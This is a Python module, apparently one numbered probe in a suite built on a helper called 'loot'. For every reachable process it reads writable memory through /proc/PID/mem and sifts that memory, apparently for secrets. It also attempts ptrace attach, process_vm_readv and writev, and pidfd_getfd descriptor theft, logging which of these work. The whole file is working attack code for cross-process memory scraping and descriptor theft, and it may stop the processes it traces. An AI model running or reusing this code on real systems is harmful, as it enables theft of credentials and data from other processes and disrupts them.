"""/proc/PID/mem, ptrace, process_vm_readv, pidfd_getfd, kcmp on every process."""
# Row: 10
# Danger: stops what it traces
import ctypes, loot, os, time

class Vec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

def scan(pid, until):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    loot.reached("mem")
    for line in maps:
        span, mode = line.split()[:2]
        low, high = (int(x, 16) for x in span.split("-"))
        if mode.startswith("rw") and high - low < 1 << 26 and time.process_time() < until:
            try:
                memory.seek(low)
                loot.sift(memory.read(high - low))
            except (OSError, ValueError):
                continue

def strike():
    until, buffer = time.process_time() + 0.3, ctypes.create_string_buffer(64)
    for pid in loot.pids():
        scan(pid, until)
    for pid in loot.every_pid()[:4000]:
        if loot.C.ptrace(16, pid, 0, 0) == 0:
            loot.reached("ptrace-attach")
            loot.C.ptrace(17, pid, 0, 0)
            os.kill(pid, 18)
        here, there = Vec(ctypes.addressof(buffer), 8), Vec(0x400000, 8)
        for number, name in ((310, "vm-readv"), (311, "vm-writev")):
            if loot.system_call(number, pid, ctypes.byref(here), 1, ctypes.byref(there), 0 if number == 311 else 1, 0) > 0:
                loot.reached(name)
        handle = loot.system_call(434, pid, 0)
        if handle > 0:
            for far in range(3, 12):
                if loot.system_call(438, handle, far, 0) > 0:
                    loot.reached("pidfd-getfd")
            os.close(handle)
